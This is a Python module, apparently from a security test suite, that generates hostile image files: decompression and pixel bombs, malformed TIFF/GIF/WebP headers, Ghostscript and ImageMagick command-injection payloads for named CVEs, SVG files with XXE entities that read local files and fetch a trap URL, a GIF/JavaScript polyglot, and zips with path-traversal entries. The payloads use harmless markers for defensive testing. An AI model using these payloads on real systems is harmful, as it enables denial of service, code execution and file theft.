"""Pictures that are larger than they look, no pictures, or something else besides."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image

from benchmarks.trust.hostile.corpus import Trap, hostile
from benchmarks.trust.hostile.zips import picture, write_zip


def _chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png(side: int, *, bits: int = 1, colour: int = 0, between: bytes = b"") -> bytes:
    """A square PNG of zeros.

    Args:
        side: height and width.
        bits: a value.
        colour: PNG's colour type: 0 grey, 3 a palette, 6 colour and transparency.
        between: further chunks before the pixels.
    """
    values = {0: 1, 3: 1, 6: 4}[colour]
    row = bytes(1 + (side * bits * values + 7) // 8)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, bits, colour, 0, 0, 0)
    return b"".join([
        b"\x89PNG\r\n\x1a\n", _chunk(b"IHDR", header), between, _chunk(b"IDAT", packed),
        _chunk(b"IEND", b""),
    ])  # fmt: skip


@hostile(".png", "900 million pixels in 110 KB", is_large=True)
def pixel_bomb(path: Path, trap: Trap) -> None:
    path.write_bytes(png(30_000))


@hostile(".png", "as many pixels as are allowed, each with its transparency", is_large=True)
def largest_png(path: Path, trap: Trap) -> None:
    palette = _chunk(b"PLTE", bytes(768)) + _chunk(b"tRNS", bytes(range(256)))
    path.write_bytes(png(7900, bits=8, colour=3, between=palette))


@hostile(".png", "the same with sixteen bits a value", is_large=True)
def largest_deep_png(path: Path, trap: Trap) -> None:
    path.write_bytes(png(7900, bits=16))


@hostile(".zip", "forty pictures of the largest size that is allowed", is_large=True)
def many_large_pictures(path: Path, trap: Trap) -> None:
    large = png(7900, bits=8)
    write_zip(path, {f"{number}.png": large for number in range(40)})


@hostile(".png", "texts and profiles that unpack to hundreds of megabytes")
def text_bomb(path: Path, trap: Trap) -> None:
    packed = zlib.compress(bytes(100_000_000), 9)
    between = b"".join([
        _chunk(b"zTXt", b"latent-studio\0\0" + packed),
        _chunk(b"iCCP", b"profile\0\0" + packed),
        _chunk(b"iTXt", b"x\0\1\0\0\0" + packed),
    ])  # fmt: skip
    path.write_bytes(png(64, between=between))


@hostile(".png", "an animation of four thousand million frames")
def animation_bomb(path: Path, trap: Trap) -> None:
    between = _chunk(b"acTL", struct.pack(">II", 0xFFFF_FFFF, 0))
    between += _chunk(b"fcTL", struct.pack(">5I2H2B", 0, 64, 64, 0, 0, 1, 1, 0, 0))
    path.write_bytes(png(64, between=between))


@hostile(".gif", "65 535 pixels each way")
def gif_bomb(path: Path, trap: Trap) -> None:
    start = b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + bytes(6)
    frame = b"," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0) + b"\2\2\x4c\1\0"
    path.write_bytes(start + frame * 50 + b";")


@hostile(".webp", "a header of 16 384 pixels each way, and nothing behind it")
def webp_bomb(path: Path, trap: Trap) -> None:
    bits = (16_383) | (16_383 << 14)
    content = b"\x2f" + struct.pack("<I", bits) + bytes(20)
    chunk = b"VP8L" + struct.pack("<I", len(content)) + content + b"\0"
    path.write_bytes(b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk)


def _tiff(width: int, height: int, *, next_at: int = 0, strip: int = 8, length: int = 64) -> bytes:
    tags = [(256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, strip), (277, 1),
            (278, height), (279, length)]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return (
        b"II*\0"
        + struct.pack("<I", 8)
        + struct.pack("<H", len(tags))
        + entries
        + struct.pack("<I", next_at)
    )


@hostile(".tiff", "a header of 2 000 million pixels each way")
def tiff_bomb(path: Path, trap: Trap) -> None:
    path.write_bytes(_tiff(2_000_000_000, 2_000_000_000))


@hostile(
    ".tiff", "a list of pictures that leads back to its beginning, and strips outside the file"
)
def tiff_circle(path: Path, trap: Trap) -> None:
    path.write_bytes(_tiff(100, 100, next_at=8, strip=0xFFFF_FF00, length=0xFFFF_FFFF))


@hostile(".bmp", "a header of 60 000 pixels each way")
def bmp_bomb(path: Path, trap: Trap) -> None:
    header = struct.pack("<IiiHHIIiiII", 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0)
    path.write_bytes(b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + header)


def scan_bomb(side: int, scans: int) -> bytes:
    """A progressive JPEG whose first scan comes over and over again."""
    file = io.BytesIO()
    Image.new("L", (side, side)).save(file, "JPEG", progressive=True)
    content = file.getvalue()
    starts = [at for at in range(len(content)) if content[at : at + 2] == b"\xff\xda"]
    last = content[starts[-1] : content.rindex(b"\xff\xd9")]
    return content[: starts[-1]] + last * scans + b"\xff\xd9"


@hostile(".jpg", "ten thousand scans of the same large picture", is_large=True)
def jpeg_scans(path: Path, trap: Trap) -> None:
    path.write_bytes(scan_bomb(7900, 10_000))


@hostile(".zip", "several such pictures among good ones", is_large=True)
def zip_of_scans(path: Path, trap: Trap) -> None:
    bomb = scan_bomb(7900, 10_000)
    write_zip(
        path,
        {**{f"{i}.png": picture(i) for i in range(4)}, **{f"x{i}.jpg": bomb for i in range(5)}},
    )


@hostile(".png", "a picture that ends in the middle")
def cut_png(path: Path, trap: Trap) -> None:
    path.write_bytes(picture()[:500])


@hostile(".jpg", "a picture that ends in the middle")
def cut_jpeg(path: Path, trap: Trap) -> None:
    path.write_bytes(picture(kind="JPEG")[:300])


@hostile(
    ".png", "PostScript called a picture: a decoder that starts programs", cve="CVE-2018-16509"
)
def postscript(path: Path, trap: Trap) -> None:
    command = f"%pipe%mkdir {trap.marker}"
    path.write_bytes(
        f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n({command}) (w) file\n".encode()
    )


@hostile(".png", "a drawing language that fetches and runs", cve="CVE-2016-3714")
def drawing_language(path: Path, trap: Trap) -> None:
    fill = f"fill 'url({trap.url}\";mkdir \"{trap.marker})'"
    path.write_bytes(f"push graphic-context\n{fill}\npop graphic-context\n".encode())


def _svg(trap: Trap) -> bytes:
    return f"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a SYSTEM "file://{trap.secret}"><!ENTITY b SYSTEM "{trap.url}">]>
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('{trap.url}')"><script>alert(1)</script>
<text>&a;&b;</text><image href="{trap.url}"/></svg>""".encode()


@hostile(".svg", "scripts, and entities from files and addresses")
def svg(path: Path, trap: Trap) -> None:
    path.write_bytes(_svg(trap))


@hostile(".png", "the same, called PNG")
def svg_called_png(path: Path, trap: Trap) -> None:
    path.write_bytes(_svg(trap))


@hostile(".svg", "entities that multiply: a thousand million words")
def entity_bomb(path: Path, trap: Trap) -> None:
    entities = ['<!ENTITY a0 "lol">']
    entities += [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)]
    path.write_bytes(f"<!DOCTYPE svg [{''.join(entities)}]><svg>&a9;</svg>".encode())


@hostile(".png", "a sound picture with a zip behind it")
def png_and_zip(path: Path, trap: Trap) -> None:
    path.write_bytes(_with_zip(picture()))


@hostile(".zip", "the same, called zip")
def zip_behind_png(path: Path, trap: Trap) -> None:
    path.write_bytes(_with_zip(picture()))


def _with_zip(start: bytes) -> bytes:
    file = io.BytesIO(start)
    file.seek(0, 2)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("../../sprung.png", picture(2))
    return file.getvalue()


@hostile(".gif", "a picture that is a program for browsers, too")
def gif_and_script(path: Path, trap: Trap) -> None:
    start = b"GIF89a" + struct.pack("<HHBBB", 0x2A2F, 16, 0, 0, 0)
    frame = b"," + struct.pack("<HHHHB", 0, 0, 16, 16, 0) + b"\2\2\x4c\1\0;"
    path.write_bytes(start + frame + b"*/=1;alert(document.domain)//")


@hostile(".jpg", "a web page called a picture")
def html_called_jpeg(path: Path, trap: Trap) -> None:
    path.write_bytes(f"<html><script src='{trap.url}'></script></html>".encode())


@hostile(".png", "a zip called PNG")
def zip_called_png(path: Path, trap: Trap) -> None:
    write_zip(path, {"../../sprung.png": picture()})
